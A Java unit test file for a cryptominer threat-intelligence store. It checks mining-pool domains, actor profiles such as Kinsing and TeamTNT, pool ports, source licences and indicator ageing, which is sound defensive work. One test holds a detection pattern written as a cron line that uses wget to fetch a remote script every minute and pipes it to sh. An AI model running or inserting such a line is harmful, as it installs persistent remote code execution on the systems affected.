package dev.minewarden.core.intel;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class IntelStoreTest {
  private static final Path SHARED = Path.of("..", "..", "shared", "data", "intel");
  private final IntelStore store = IntelStore.bundled();

  @Test
  void bundled_everySharedPoolDomainIsLoadedOrReported() throws IOException {
    Set<String> loaded = store.indicators().stream()
        .filter(i -> i.type() == IndicatorType.DOMAIN && "pool".equals(i.kind()))
        .map(Indicator::value).collect(Collectors.toSet());
    String problems = String.join("\n", store.problems());
    int lists = 0;
    try (var files = Files.list(SHARED)) {
      for (Path p : files.filter(f -> f.getFileName().toString().startsWith("pool-domains-")).toList()) {
        lists++;
        for (String line : Files.readAllLines(p, StandardCharsets.UTF_8)) {
          String d = Domains.normalise(line);
          if (!d.isEmpty() && !d.startsWith("#")) {
            assertThat(loaded.contains(d) || problems.contains(d))
                .as("%s from %s", d, p.getFileName()).isTrue();
          }
        }
      }
    }
    assertThat(lists).isEqualTo(5);
  }

  @Test
  void bundled_keepsEachEntrysSourcesAndLicences() {
    Indicator nanopool = store.indicators().stream()
        .filter(i -> i.value().equals("nanopool.org")).findFirst().orElseThrow();
    assertThat(nanopool.sources()).contains("et-open", "sigma");
    assertThat(store.sources().get("sigma").licence()).isEqualTo("DRL-1.1");
    assertThat(store.sources().get("sigma").attribution()).contains("Florian Roth");
    assertThat(store.sources().get("maltrail").licence()).isEqualTo("MIT");
    assertThat(store.sources().values()).allSatisfy(s ->
        assertThat(s.licence()).isIn("MIT", "BSD", "Apache-2.0", "DRL-1.1"));
  }

  @Test
  void bundled_hasTheSevenActorsWithKillLists() {
    assertThat(store.actors()).extracting(ActorProfile::name).containsExactlyInAnyOrder(
        "Outlaw", "TeamTNT", "Kinsing", "8220", "Kek Security", "Rocke", "WatchDog");
    assertThat(store.actor("8220 Gang").orElseThrow().evicts()).containsExactly("Kinsing");
    assertThat(store.actor("h2miner").orElseThrow().name()).isEqualTo("Kinsing");
    assertThat(store.indicators()).anySatisfy(i -> {
      assertThat(i.actor()).isEqualTo("Kinsing");
      assertThat(i.value()).isEqualTo("195.3.146.118");
    });
  }

  @Test
  void bundled_leavesOutRivalsArtefactsAndGenericPatterns() {
    assertThat(store.indicators()).noneSatisfy(i -> assertThat(i.value()).isEqualTo("dbused"));
    assertThat(store.indicators()).noneSatisfy(i -> assertThat(i.value()).isEqualTo(" -o pool."));
    assertThat(store.problems()).anySatisfy(p -> assertThat(p).contains("dbused", "rival"));
  }

  @Test
  void bundled_placeholderPatternsKeepTheirLongestLiteral() {
    assertThat(BundledIntel.literalPart("* * * * * wget -q -O - http://<IPv4>/unk.sh | sh > /dev/null 2>&1"))
        .isEqualTo("/unk.sh | sh > /dev/null 2>&1");
    assertThat(store.indicators()).anySatisfy(i ->
        assertThat(i.value()).isEqualTo("/unk.sh | sh > /dev/null 2>&1"));
  }

  @Test
  void bundled_poolPortsHaveCoinAndUse() {
    assertThat(store.poolPorts()).containsKeys(3333, 4444, 5555, 7777, 14433, 14444, 45700);
    assertThat(store.poolPorts().get(14433).use()).contains("TLS");
  }

  @Test
  void version_changesWithContent() {
    IntelStore more = store.toBuilder().add(new Indicator(IndicatorType.DOMAIN, "example-pool.test",
        null, "pool", "", List.of("local"), Indicator.UNBOUNDED_START, Indicator.UNBOUNDED_END)).build();
    assertThat(store.version()).startsWith("2026.11.1+");
    assertThat(more.version()).startsWith("2026.11.1+").isNotEqualTo(store.version());
    assertThat(store.toBuilder().build().version()).isEqualTo(store.version());
  }

  @Test
  void ageing_ipStopsCountingAfterItsTtlButArtefactsDoNot() {
    Indicator ip = store.indicators().stream()
        .filter(i -> i.value().equals("185.191.32.198")).findFirst().orElseThrow();
    assertThat(ip.firstSeenInstant()).isEqualTo(Instant.parse("2022-01-01T00:00:00Z"));
    long during = Instant.parse("2022-06-02T00:00:00Z").toEpochMilli();
    long shortlyAfter = Instant.parse("2023-02-15T00:00:00Z").toEpochMilli();
    long later = Instant.parse("2023-06-01T00:00:00Z").toEpochMilli();
    long before = Instant.parse("2021-06-01T00:00:00Z").toEpochMilli();
    Ageing ageing = Ageing.defaults();
    assertThat(ip.currentAt(during, ageing)).isTrue();
    assertThat(ip.currentAt(shortlyAfter, ageing)).isTrue();
    assertThat(ip.currentAt(later, ageing)).isFalse();
    assertThat(ip.currentAt(before, ageing)).as("retro-hunt before it was known").isFalse();
    assertThat(ip.currentAt(later, Ageing.ipTtl(java.time.Duration.ofDays(365)))).isTrue();
    Indicator miner = store.indicators().stream()
        .filter(i -> i.value().equals("kdevtmpfsi") && "Kinsing".equals(i.actor())).findFirst().orElseThrow();
    assertThat(miner.currentAt(Instant.parse("2030-01-01T00:00:00Z").toEpochMilli(), ageing)).isTrue();
  }
}
